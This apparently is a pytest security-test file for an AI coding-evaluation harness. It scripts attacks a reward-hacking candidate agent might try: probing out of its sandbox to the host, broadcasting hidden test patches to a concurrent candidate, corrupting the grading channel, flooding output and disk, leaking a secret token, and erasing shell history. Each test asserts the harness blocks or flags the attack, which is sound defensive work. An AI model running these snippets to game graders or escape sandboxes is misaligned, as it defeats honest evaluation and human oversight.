"""Attacks a determined candidate would try on isolation, denominators, resources and secrets (issue #8).

Each attack is what a reward-hacking candidate can do: a CommandAgent whose shell command does the evil
thing in the candidate sandbox, or code in its submission that does it at grading time (a module the hidden
tests import). Every attack asserts that the trial is not `resolved` and that every selected (task, attempt)
ends in exactly one recorded result.
"""

import base64
import os
import resource
import socket
import subprocess
import sys
import threading
import time

import pytest
from attack_payloads import STEAL_CHANNEL

from sweserve.agents.command import CommandAgent
from sweserve.agents.config import CommandAgentConfig
from sweserve.demo import files
from sweserve.evaluation.evaluate import run_evaluation
from sweserve.evaluation.results import read_results

pytestmark = pytest.mark.docker
DIST = "sweserve-demo__sglang-mini-103"
QUANT = "sweserve-demo__sglang-mini-105"
SRC = "python/sglang/srt/distributed/parallel_state.py"  # imported by DIST's hidden tests


# --- helpers ---------------------------------------------------------------------------------------------

def write_file_cmd(path: str, text: str) -> str:
    data = base64.b64encode(text.encode()).decode()
    return f"mkdir -p $(dirname {path}) && echo {data} | base64 -d > {path}"


def grading_time_agent(name: str, evil: str) -> CommandAgent:
    """Submits the real fix plus `evil`, run when the hidden tests import the module (i.e. while grading)."""
    return CommandAgent(write_file_cmd(SRC, files.PR_DISTRIBUTED[SRC] + "\n" + evil), name=name)


def run_one(demo, tmp_path, agent, bundles=None, **kw):
    bundles = bundles or [demo.bundle(DIST)]
    out = tmp_path / f"{agent.name}.jsonl"
    run_evaluation(demo.ctx, bundles, agent, out, **kw)
    results = read_results(out)
    keys = sorted((r.task_id, r.attempt) for r in results)
    assert keys == sorted((b.task.task_id, 1) for b in bundles), keys  # exactly one result per selected task
    return results, out


def host_addresses() -> list[str]:
    out = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True).stdout
    return sorted({line.split()[3].split("/")[0] for line in out.splitlines()} - {"127.0.0.1"})


class Listener:
    """A TCP listener on the host recording whoever connects and what they send."""

    def __init__(self, host="0.0.0.0"):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((host, 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.got: list[tuple[str, bytes]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, addr = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                data = conn.recv(65536)
            except OSError:
                data = b""
            self.got.append((addr[0], data))
            conn.close()

    def close(self):
        self._stop.set()
        self._thread.join()
        self.sock.close()


PROBE = """
import socket, sys
port = int(sys.argv[1]); hit = []
targets = sys.argv[2:]
for line in open('/proc/net/route').read().splitlines()[1:]:   # the sandbox's own gateway, if any
    f = line.split()
    if f[2] != '00000000':
        targets.append(socket.inet_ntoa(bytes.fromhex(f[2])[::-1]))
    elif f[1] != '00000000':
        net = bytes.fromhex(f[1])[::-1]
        targets.append(socket.inet_ntoa(net[:3] + bytes([net[3] + 1])))
for host in dict.fromkeys(targets):
    try:
        s = socket.create_connection((host, port), 1.5); s.sendall(b'escaped'); s.close(); hit.append(host)
    except OSError:
        pass
print('REACHED', hit)
"""


# --- class 4: leaks between sandboxes and to the host -----------------------------------------------------

def test_candidate_cannot_reach_host_services(demo, tmp_path):
    anywhere = Listener("0.0.0.0")
    gateway = Listener("172.17.0.1") if "172.17.0.1" in host_addresses() else None
    try:
        ports = [anywhere.port] + ([gateway.port] if gateway else [])
        cmd = write_file_cmd("/tmp/probe.py", PROBE) + "".join(
            f"; python /tmp/probe.py {p} {' '.join(host_addresses())} | tee -a reached.txt" for p in ports)
        (r,), _ = run_one(demo, tmp_path, CommandAgent(cmd, name="host-probe"))
    finally:
        anywhere.close()
        if gateway:
            gateway.close()
    assert anywhere.got == [] and (gateway is None or gateway.got == []), (anywhere.got, gateway and gateway.got)
    assert "REACHED []" in r.agent_run.log_tail, r.agent_run.log_tail
    assert r.status != "resolved"


def test_concurrent_sandboxes_cannot_reach_each_other(demo):
    b = demo.bundle(QUANT)
    image = demo.ctx.task_image(b)
    with demo.ctx.sandbox(image, b.task.task_id, "candidate", b.task.resources, []) as one, \
            demo.ctx.sandbox(image, b.task.task_id, "candidate", b.task.resources, []) as two, \
            demo.ctx.sandbox(image, b.task.task_id, "grade", b.task.resources, []) as verifier:
        one.start_background(["python", "-c", "import socket; s = socket.socket(); s.bind(('0.0.0.0', 9999)); "
                                              "s.listen(); s.accept(); open('/tmp/got', 'w').write('x')"])
        target = one.container.attrs["NetworkSettings"]["Networks"]
        one.container.reload()
        ip = next(n["IPAddress"] for n in one.container.attrs["NetworkSettings"]["Networks"].values())
        res = two.exec(f"python -c \"import socket; socket.create_connection(('{ip}', 9999), 2); print('OPEN')\"", 20)
        assert "OPEN" not in res.output, (target, res.output)
        assert one.exec("test -e /tmp/got", 10).exit_code != 0
        verifier.container.reload()  # the verifier's sandbox is on no network at all
        assert list(verifier.container.attrs["NetworkSettings"]["Networks"]) == ["none"]
        res = verifier.exec(f"python -c \"import socket; socket.create_connection(('{ip}', 9999), 2); print('OPEN')\"", 20)
        assert "OPEN" not in res.output
        nets = [one.network, two.network]
        assert len(set(nets)) == 2 and list(target) == [one.network]
        for name in nets:
            attrs = demo.ctx.host.client.networks.get(name).attrs
            assert attrs["Internal"] is True and attrs["Options"]["com.docker.network.bridge.inhibit_ipv4"] == "true"
    for name in nets:  # a sandbox's network goes with it
        assert demo.ctx.host.client.networks.list(names=[name]) == []


LEAK_LISTENER = """
import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('0.0.0.0', 9999)); s.listen()
s.settimeout(60)
try:
    c, _ = s.accept(); c.settimeout(5); data = b''
    while True:
        chunk = c.recv(65536)
        if not chunk: break
        data += chunk
    open('/testbed/leaked_tests.txt', 'wb').write(data)
except OSError:
    pass
"""

LEAK_SENDER = """
import glob as _g, ipaddress as _ip, socket as _s, threading as _t
def _leak():
    data = b''.join(open(p, 'rb').read() for p in _g.glob('/sweserve/*.patch'))
    me = _s.gethostbyname(_s.gethostname())
    def _send(host):
        try:
            c = _s.create_connection((host, 9999), 0.5); c.sendall(data); c.close()
        except OSError:
            pass
    base = int(_ip.ip_address(me))
    ts = [_t.Thread(target=_send, args=(str(_ip.ip_address(base + d)),)) for d in range(-24, 25) if d]
    [t.start() for t in ts]; [t.join() for t in ts]
_leak()
"""


@pytest.mark.slow
def test_grading_code_cannot_broadcast_hidden_tests_to_a_concurrent_candidate(demo, tmp_path):
    """Task A's submission, imported while A is graded, sends tests.patch to task B's candidate, still working."""
    leak_cmd = write_file_cmd(SRC, files.PR_DISTRIBUTED[SRC] + "\n" + LEAK_SENDER)
    listen_cmd = write_file_cmd("/tmp/listen.py", LEAK_LISTENER) + "; python /tmp/listen.py"
    agent = CommandAgent(f'if [ "$SWESERVE_TASK_ID" = {DIST} ]; then sleep 2; {leak_cmd}; else {listen_cmd}; fi',
                         name="broadcast")
    results, out = run_one(demo, tmp_path, agent, bundles=[demo.bundle(DIST), demo.bundle(QUANT)], workers=2)
    (listener,) = [r for r in results if r.task_id == QUANT]
    assert "leaked_tests.txt" not in listener.model_patch
    assert "test_uneven_split_covers_everything" not in out.read_text().replace(
        '"test/srt/test_parallel_state.py::test_uneven_split_covers_everything"', "")
    assert all(r.status != "resolved" or r.task_id == DIST for r in results)


# --- class 6: dishonest denominators: grading that crashes the harness -------------------------------------

# outcomes stream over a nonce'd channel (no file is left to mangle): the channel itself is mangled, its nonce
# stolen by frame walking while the hidden tests are collected; the submission does not fix the bug
CHANNEL_ATTACKS = {
    "list": "_raw('[1, 2, 3]')",
    "invalid": "_raw('{\"id\": ')",
    "binary": "_raw(_os.urandom(4096).decode('latin-1'))",
    "huge-line": "_raw('{\"id\": \"' + 'x' * (12 * 2**20) + '\"}')",
    "closed": "_os.close(_FD)",
}


@pytest.mark.parametrize("how", sorted(CHANNEL_ATTACKS))
def test_mangled_channel_is_one_unresolved_result(demo, tmp_path, how):
    evil = (STEAL_CHANNEL + "import atexit as _atexit\n"
            "def _mangle():\n"
            "    try:\n"
            f"        {CHANNEL_ATTACKS[how]}\n"
            "    except OSError:\n"
            "        pass\n"
            + ("_mangle()\n" if how == "closed" else "_atexit.register(_mangle)\n"))
    agent = CommandAgent(write_file_cmd(SRC, files.INIT[SRC] + "\n" + evil), name=f"channel-{how}")
    bundles = [demo.bundle(DIST), demo.bundle(QUANT)]  # the second task must not be lost
    results, out = run_one(demo, tmp_path, agent, bundles=bundles)
    (r,) = [x for x in results if x.task_id == DIST]
    assert r.status != "resolved", r
    if how == "huge-line":  # past what the verifier keeps of the output: the stream cannot be trusted
        assert r.status == "tampered" and "output" in r.reason, r.reason
    assert out.stat().st_size < 200_000


# --- class 7: resource abuse -----------------------------------------------------------------------------

def peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


@pytest.mark.slow
def test_stdout_flood_keeps_harness_memory_bounded(demo, tmp_path):
    before = peak_rss_mb()
    flood = CommandAgent("head -c 1200000000 /dev/zero | tr '\\0' a; echo; echo tail-marker", name="flood")
    (r,), out = run_one(demo, tmp_path, flood)
    assert peak_rss_mb() - before < 250, (before, peak_rss_mb())
    assert "tail-marker" in r.agent_run.log_tail and len(r.agent_run.log_tail) <= 4000
    assert r.status != "resolved" and out.stat().st_size < 100_000


def test_grading_time_stdout_flood_is_bounded(demo, tmp_path):
    """At exit pytest's capture is gone: the flood reaches the real stdout, the harness keeps its tail only."""
    before = peak_rss_mb()
    evil = ("import atexit, os\n"
            "def _flood():\n"
            "    for _ in range(300):\n"
            "        os.write(1, b'x' * (2**20 - 1) + b'\\n')\n"
            "atexit.register(_flood)\n")
    (r,), out = run_one(demo, tmp_path, grading_time_agent("grade-flood", evil))
    assert peak_rss_mb() - before < 250
    assert out.stat().st_size < 100_000
    log = os.path.join(r.trial_dir, "tests.log")
    assert (os.path.getsize(log) if os.path.exists(log) else 0) < 20 * 2**20
    assert r.status == "tampered" and "output" in r.reason, (r.status, r.reason)  # the real fix beside it is moot


def test_huge_submission_is_an_error_and_the_record_stays_small(demo, tmp_path):
    big = CommandAgent("head -c 60000000 /dev/urandom > blob.bin; " + write_file_cmd(SRC, files.PR_DISTRIBUTED[SRC]),
                       name="big-submission")
    (r,), out = run_one(demo, tmp_path, big)
    assert r.status == "error" and r.reason and "submission too large" in r.reason, r.reason
    assert out.stat().st_size < 100_000 and r.model_patch == ""


def test_single_huge_write_is_stopped_by_the_disk_limit(demo, tmp_path):
    b = demo.bundle(DIST).model_copy(deep=True)
    b.task.resources.disk_gb = 0.25
    hog = CommandAgent("dd if=/dev/zero of=/tmp/fill bs=1M count=5120 2>&1 | tail -2; ls -la /tmp/fill; "
                       + write_file_cmd(SRC, files.PR_DISTRIBUTED[SRC]), name="disk-hog")
    (r,), _ = run_one(demo, tmp_path, hog, bundles=[b])
    assert r.status != "resolved", r
    assert r.status == "error" and "disk limit" in (r.reason or ""), r.reason


def test_many_files_are_stopped_by_the_disk_limit(demo, tmp_path):
    b = demo.bundle(DIST).model_copy(deep=True)
    b.task.resources.disk_gb = 0.25
    hog = CommandAgent("for i in $(seq 1 40); do head -c 20000000 /dev/zero > /tmp/f$i || break; sleep 0.1; done; "
                       "du -sh /tmp; " + write_file_cmd(SRC, files.PR_DISTRIBUTED[SRC]), name="disk-hog-many")
    (r,), _ = run_one(demo, tmp_path, hog, bundles=[b])
    assert r.status == "error" and "disk limit" in (r.reason or ""), r.reason


# --- class 8: secrets and transcripts --------------------------------------------------------------------

def test_secret_written_into_the_submission_is_redacted_and_flagged(demo, tmp_path):
    secret = "sk-live-very-secret-4242"
    cfg = CommandAgentConfig(kind="command", name="leaky", env=["LEAKY_TOKEN"],
                             command="echo \"$LEAKY_TOKEN\" > token.txt; echo token is $LEAKY_TOKEN; "
                                     f'echo "# $LEAKY_TOKEN" >> {SRC}')
    agent = CommandAgent(cfg.command, cfg=cfg, env={"LEAKY_TOKEN": secret})
    (r,), out = run_one(demo, tmp_path, agent)
    everything = out.read_text() + "".join(p.read_text() for p in __import__("pathlib").Path(r.trial_dir).iterdir())
    assert secret not in everything
    assert "secret_in_submission" in r.flags
    assert r.status != "resolved"


def test_human_cannot_rewrite_or_stop_their_transcript(demo, tmp_path):
    import pexpect

    args = ["-m", "sweserve.cli", "session", DIST, "--candidate", "mallory", "--tasks", str(demo.tasks),
            "--state-dir", str(demo.root / "state"), "--repo-path", str(demo.repo),
            "--output", str(tmp_path / "human.jsonl"), "--time-limit", "600"]
    child = pexpect.spawn(sys.executable, args, cwd=str(tmp_path), encoding="utf-8", timeout=120,
                          dimensions=(50, 200))
    prompt = r"s left\] /testbed# "
    child.expect(prompt)
    child.sendline("cat /sweserve/instruction.md | wc -l  # evidence")
    child.expect(prompt)
    time.sleep(2.5)  # the host has had time to copy the history
    child.sendline("history -c; : > /sweserve/history; rm -f /sweserve/history; export HISTFILE=/dev/null")
    child.expect(prompt)
    child.sendline("set +o history; unset HISTFILE; echo unseen-$((6*7)) > /tmp/work  # after the history")
    child.expect(prompt)
    child.sendline("exit")
    child.expect(pexpect.EOF, timeout=180)
    child.close()
    (r,) = read_results(tmp_path / "human.jsonl")
    assert "# evidence" in r.agent_run.transcript
    assert "transcript_tampered" in r.flags
    assert r.status != "resolved"
    # the host's own record of the terminal holds every command, those typed with history off included
    typed = [line.split("s  ", 1)[1] for line in r.agent_run.keystrokes.splitlines()]
    assert "set +o history; unset HISTFILE; echo unseen-$((6*7)) > /tmp/work  # after the history" in typed
    assert typed[0] == "cat /sweserve/instruction.md | wc -l  # evidence" and typed[-1] == "exit"


# --- honesty of the record: results shown without markup, one writer per file -----------------------------

def test_markup_in_a_reason_is_printed_literally(demo, tmp_path):
    """File names are the candidate's: one that is rich markup lands in a reason, and must print as text."""
    name = "test/srt/test_[bold red]x[link=evil]y[blink].py"  # a file name cannot hold "/", so no closing tags
    (r,), out = run_one(demo, tmp_path, CommandAgent(
        f"echo 'def test_x(): pass' > '{name}'; " + write_file_cmd(SRC, files.PR_DISTRIBUTED[SRC]), name="markup"))
    assert r.reason and name in r.reason, r.reason
    proc = subprocess.run([sys.executable, "-m", "sweserve.cli", "report", str(out)], capture_output=True, text=True,
                          env={**os.environ, "COLUMNS": "400"})
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr and name in proc.stdout
